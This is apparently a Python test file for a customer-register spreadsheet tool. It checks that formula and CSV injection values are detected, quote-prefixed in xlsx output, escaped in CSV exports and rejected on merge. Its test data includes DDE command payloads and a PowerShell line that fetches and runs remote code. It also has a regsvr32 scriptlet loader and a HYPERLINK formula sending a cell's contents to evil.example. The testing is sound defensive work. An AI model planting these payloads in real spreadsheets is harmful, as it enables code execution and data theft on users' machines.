"""Formula injection closed: detected after normalization too, written with the quote prefix
in the register and in annotated copies, escaped in every CSV we write (OWASP)."""

from __future__ import annotations

import csv
import sys
from pathlib import Path

import openpyxl
import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from kam.injection import csv_cell, starts_formula
from kam.normalize import Kind, normalize
from kam.register.columns import REG_ROSTER
from kam.register.edits import EditReport, LostEdit
from kam.register.writer import RegisterData, write_register
from validators.formula_in_data import formula_like

sys.path.insert(0, str(Path(__file__).parent))
from test_merge import branch_file, customer
from test_register_safety import CODES

# What a user does not see before the trigger: spaces of every width, tab, CR, LF, C0
# controls, no-break and ideographic spaces.
LEADING = st.text(
    alphabet=st.sampled_from([" ", "\t", "\r", "\n", "\x01", "\x0b", "\x1f", "\u00a0", "\u3000"]),
    max_size=4,
)
TRIGGER = st.sampled_from(["=", "+", "-", "@", "＝", "＋", "－", "＠"])
BODY = st.sampled_from(
    [
        "cmd|' /C calc'!A0",  # DDE
        "cmd|'/c powershell IEX(wget 0r.pe/p)'!A0",
        "SUM(1+1)*cmd|' /C calc'!A0",
        'HYPERLINK("http://evil.example/?x="&A1,"点我")',
        "1+1",
        "待集团复核",
        "MSEXCEL|'\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll'!''",
    ]
)
HOSTILE = st.builds(lambda a, t, b: a + t + b, LEADING, TRIGGER, BODY)
TRICKY = [
    "\t=1+1",
    "\r+cmd|' /C calc'!A0",
    " =1+1",
    '\u3000=HYPERLINK("http://x","y")',
    "\x01@SUM(A1)",
    "＝1+1",
    "-待集团复核",
    '=HYPERLINK("http://evil","点我")',
]


@settings(max_examples=300, deadline=None)
@given(HOSTILE)
def test_formula_in_data_sees_through_normalization(value: str) -> None:
    raw = pd.Series([value], dtype=object)
    typed = normalize(Kind.TEXT, raw).values
    assert bool(formula_like(raw).iloc[0] or formula_like(typed).iloc[0])
    assert starts_formula(value)


@settings(max_examples=300, deadline=None)
@given(HOSTILE)
def test_csv_escapes_every_hostile_value(value: str) -> None:
    escaped = csv_cell(value)
    assert isinstance(escaped, str) and escaped.startswith("'") and escaped[1:] == value


@given(st.text(min_size=1, max_size=8).filter(lambda t: t[0].isalnum()))
def test_text_starting_with_a_letter_or_digit_is_left_alone(text: str) -> None:
    assert not starts_formula(text) and csv_cell(text) == text


def test_register_cells_carry_the_quote_prefix(tmp_path: Path) -> None:
    data = RegisterData.empty()
    ids = [f.id for f in REG_ROSTER.fields]
    values = [*TRICKY, "普通文本", "+86 138 0013 8000"]
    data.roster = pd.DataFrame(
        [{i: (v if i == "name" else None) for i in ids} for v in values], columns=ids
    )
    path = tmp_path / "名录.xlsx"
    write_register(path, data)
    ws = openpyxl.load_workbook(path)[REG_ROSTER.sheet]
    col = ids.index("name") + 1
    cells = [ws.cell(r, col) for r in range(2, 2 + len(values))]
    assert all(c.data_type != "f" for c in cells)
    prefixed = {c.value: c.quotePrefix for c in cells}
    assert prefixed["普通文本"] is False
    assert all(prefixed[v] for v in prefixed if v != "普通文本"), prefixed


def test_annotated_copy_carries_the_quote_prefix(tmp_path: Path) -> None:
    from test_merge import info as sheet_info
    from test_merge import submit

    from kam.annotate import annotate_file

    rows = [customer(c, "华东分公司") for c in CODES[:3]]
    rows[0]["name"], rows[1]["name"] = "\t=1+1", "-待集团复核"
    src = submit(tmp_path / "a.xlsx", sheet_info("华东分公司"), {"roster": rows})
    out = tmp_path / "a.标注.xlsx"
    result = annotate_file(src, out)
    assert any(f.rule == "formula_in_data" for f in result.report.findings)
    wb = openpyxl.load_workbook(out)
    hostile = [
        c
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value in ("\t=1+1", "-待集团复核")
    ]
    assert len(hostile) == 2 and all(c.quotePrefix and c.data_type == "s" for c in hostile)


def test_lost_edits_csv_is_escaped(tmp_path: Path) -> None:
    report = EditReport(known=True)
    report.lost.append(
        LostEdit(
            "集团大客户名录",
            3,
            CODES[0],
            ("HQ备注",),
            '=HYPERLINK("http://x","y")',
            "",
            "-待集团复核",
        )
    )
    path = tmp_path / "lost.csv"
    report.write_lost(path)
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][4] == '\'=HYPERLINK("http://x","y")' and rows[1][6] == "'-待集团复核"
    assert rows[1][0] == "集团大客户名录"


def test_merge_rejects_hidden_formulas(tmp_path: Path) -> None:
    from test_merge import sheet_rows
    from test_register_safety import TODAY

    from kam.register import MergeSettings, merge
    from kam.register.columns import REJECTED

    inbox = tmp_path / "in"
    rows = [customer(c, "华东分公司") for c in CODES[:2]]
    rows[0]["name"] = "\t+cmd|' /C calc'!A0"
    branch_file(inbox, "a.xlsx", "华东分公司", [], roster=rows)
    result = merge(MergeSettings(register=tmp_path / "reg" / "名录.xlsx", inbox=inbox, today=TODAY))
    refused = sheet_rows(result.register, REJECTED.sheet)
    assert [r["行"] for r in refused if r["规则"] == "formula_in_data"] == [2]
    roster = sheet_rows(result.register, REG_ROSTER.sheet)
    assert len(roster) == 1 and not any("cmd" in str(v) for r in roster for v in r.values())


def test_archive_cells_carry_the_quote_prefix(tmp_path: Path) -> None:
    from kam.forms import RECEPTION
    from kam.register.archive import write_new
    from kam.register.columns import REG_BY_SOURCE

    form = REG_BY_SOURCE[RECEPTION.id]
    ids = [f.id for f in form.fields]
    values = [*TRICKY, "普通文本"]
    frame = pd.DataFrame([{i: (v if i == "purpose" else None) for i in ids} for v in values])
    register = tmp_path / "名录.xlsx"
    register.write_bytes(b"")  # only its mode is read
    path = tmp_path / "名录_归档_2024.xlsx"
    write_new(path, {RECEPTION.id: frame}, register)
    ws = openpyxl.load_workbook(path)[form.sheet]
    col = ids.index("purpose") + 1
    cells = {ws.cell(r, col).value: ws.cell(r, col) for r in range(2, 2 + len(values))}
    assert all(c.data_type != "f" for c in cells.values())
    assert {v for v, c in cells.items() if c.quotePrefix} == set(cells) - {"普通文本"}
